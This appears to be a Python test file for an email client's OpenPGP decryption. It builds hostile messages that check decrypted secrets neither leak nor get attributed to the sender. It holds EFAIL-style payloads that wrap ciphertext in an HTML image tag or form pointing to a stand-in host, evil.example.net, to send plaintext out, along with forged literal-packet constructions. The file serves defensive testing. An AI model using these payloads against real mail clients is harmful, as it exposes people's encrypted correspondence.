"""Ciphertext of Rita's in mails of Eve's: nothing secret may leak, nor be taken for hers."""

from __future__ import annotations

from .case import Cases, label
from .cli_keys import armored
from .letters import attached, encrypted, forwarded, group, html, mail, text
from .rig import Rig
from .texts import COVER, FAKE, FAKE_SAYS, IDOR, RESET, SSRF, XSS

CASES = Cases("mutation")

_IMG = '<img src="http://evil.example.net/?'
_LEAKS = ["evil.example.net/?Hello", "evil.example.net/? Hello", "evil.example.net/?%0AHello"]


def _theirs(rig: Rig) -> bytes:
    return encrypted(rig.seal(text(XSS.body), "rita"), boundary="=-r")


def _eve(rig: Rig, root: bytes, subject: str = "hello") -> bytes:
    return mail(rig.headers(subject, "evil"), root)


@CASES.case(
    "efail-html-image-opened-before-encrypted-part",
    label("", None, None, kind=None, never=_LEAKS),
)
def _image(rig: Rig) -> bytes:
    return _eve(rig, group("mixed", html(_IMG), _theirs(rig), html('">\n')))


@CASES.case("efail-html-form-around-encrypted-part", label("", None, None, kind=None, never=_LEAKS))
def _form(rig: Rig) -> bytes:
    start = '<form action="http://evil.example.net/"><textarea name="x">'
    return _eve(rig, group("related", html(start), _theirs(rig), html("</textarea></form>\n")))


@CASES.case(
    "efail-armor-in-an-attribute", label("not-decrypted", [], None, kind=None, never=[SSRF.more])
)
def _attribute(rig: Rig) -> bytes:
    armor = rig.seal(SSRF.body.encode(), "rita").decode()
    return _eve(rig, html(f'<p>Hi</p>{_IMG}\n{armor}\n">\n'))


@CASES.case("efail-armor-hidden-by-style", label("", None, None, kind=None))
def _style(rig: Rig) -> bytes:
    armor = rig.seal(SSRF.body.encode(), "rita").decode()
    hidden = f'<pre style="display:none">\n{armor}</pre>'
    return _eve(rig, html(f"<p>What do you think?</p>{hidden}\n"))


@CASES.case(
    "efail-encrypted-mail-forwarded-as-rfc822",
    label(
        "not-decrypted", [], None, kind=None, never=[XSS.phrase], says=["Could you look at this"]
    ),
)
def _forwarded(rig: Rig) -> bytes:
    inner = mail(rig.headers(XSS.subject), _theirs(rig))
    return _eve(rig, group("mixed", text("Could you look at this?\n"), forwarded(inner)))


@CASES.case(
    "efail-inline-encrypted-mail-forwarded-as-rfc822",
    label("not-decrypted", [], None, kind=None, never=[IDOR.phrase]),
)
def _forwarded_inline(rig: Rig) -> bytes:
    inner = mail(rig.headers(IDOR.subject), text(rig.seal(IDOR.body.encode(), "rita")))
    return _eve(rig, group("mixed", text("Could you look at this?\n"), forwarded(inner)))


@CASES.case(
    "efail-ciphertext-of-another-mail-as-attachment",
    label("", None, None, kind=None, never=[SSRF.more], says=["what is this file"]),
)
def _attachment(rig: Rig) -> bytes:
    """It may be opened as a file, but it is nothing that this mail says."""
    data = rig.seal(text(SSRF.body), "rita")
    file = attached("encrypted.asc", data, "application/octet-stream")
    return _eve(rig, group("mixed", text("Hi, what is this file?\n"), file))


@CASES.case(
    "efail-ciphertext-below-a-cover-text",
    label("", None, None, kind=None, says=["is my phone number still right"]),
)
def _below(rig: Rig) -> bytes:
    """Reply bait: the plaintext would be quoted in the answer. It is seen, and not hers."""
    cover = "Hi, is my phone number still right?\n" + "\n" * 150
    armor = rig.seal(SSRF.body.encode(), "rita").decode()
    return _eve(rig, text(cover + armor))


@CASES.case(
    "efail-ciphertext-in-a-quote", label("", None, None, kind=None, says=["Thanks for your answer"])
)
def _quote(rig: Rig) -> bytes:
    armor = rig.seal(SSRF.body.encode(), "rita").decode()
    quoted = "".join(f"> {line}\n" for line in armor.splitlines())
    return _eve(rig, text(f"Thanks for your answer.\n\nYou wrote:\n{quoted}"))


@CASES.case(
    "efail-encrypted-part-deep-in-multiparts", label("", None, None, kind=None, says=["deep down"])
)
def _deep(rig: Rig) -> bytes:
    inner = group("alternative", text("something deep down\n"), _theirs(rig), boundary="=-1")
    return _eve(rig, group("mixed", group("related", inner, boundary="=-2"), html("<p>x</p>")))


# --- more packets than one message ----------------------------------------------------------------


def _packets(rig: Rig, *pieces: bytes) -> bytes:
    return b"".join(rig.gpg("--dearmor", stdin=piece) for piece in pieces)


def _forgery(rig: Rig) -> bytes:
    return rig.gpg("--armor", "--store", stdin=text(FAKE))


_FORGED = label("", None, None, kind=None, never=[FAKE_SAYS])


@CASES.case("forged-literal-packet-after-ciphertext", _FORGED)
def _after(rig: Rig) -> bytes:
    data = _packets(rig, rig.seal(text(RESET.body), "rita"), _forgery(rig))
    return mail(rig.headers(RESET.subject), encrypted(armored(rig, data)))


@CASES.case("forged-literal-packet-before-ciphertext", _FORGED)
def _before(rig: Rig) -> bytes:
    data = _packets(rig, _forgery(rig), rig.seal(text(RESET.body), "rita"))
    return mail(rig.headers(RESET.subject), encrypted(armored(rig, data)))


@CASES.case("forged-second-ciphertext-behind-the-first", _FORGED)
def _second(rig: Rig) -> bytes:
    data = _packets(rig, rig.seal(text(RESET.body), "rita"), rig.seal(text(FAKE)))
    return mail(rig.headers(RESET.subject), encrypted(armored(rig, data)))


@CASES.case("forged-literal-packet-inside-signed-message", _FORGED)
def _inside(rig: Rig) -> bytes:
    """A signed message with a second literal in it, then encrypted by the forger."""
    good = rig.gpg("--local-user", rig.keys["rita"], "-z", "0", "--sign", stdin=text(COVER))
    both = good + rig.gpg("-z", "0", "--store", stdin=text(FAKE))
    data = rig.seal(both, "", "--no-literal")
    return mail(rig.headers("hello"), encrypted(data))
